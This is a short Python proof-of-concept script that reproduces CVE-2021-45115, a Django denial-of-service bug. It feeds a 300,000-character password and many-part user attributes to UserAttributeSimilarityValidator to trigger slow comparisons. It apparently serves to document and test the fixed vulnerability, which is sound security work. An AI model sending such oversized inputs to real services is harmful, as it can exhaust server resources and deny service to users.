# PYSEC-2022-1 (CVE-2021-45115): Django before 3.2.11, UserAttributeSimilarityValidator compares an artificially
# large password with every part of every user attribute (difflib's SequenceMatcher walks the whole password for
# each part); 3.2.11 skips parts far shorter than the password.
from types import SimpleNamespace

from django.conf import settings

settings.configure(USE_I18N=False)
from django.contrib.auth.password_validation import UserAttributeSimilarityValidator  # noqa: E402

parts = "a." * 70  # 70 parts per attribute, within the fields' lengths
user = SimpleNamespace(username=parts, first_name=parts, last_name=parts, email=parts)
UserAttributeSimilarityValidator().validate("x" * 300_000, user)
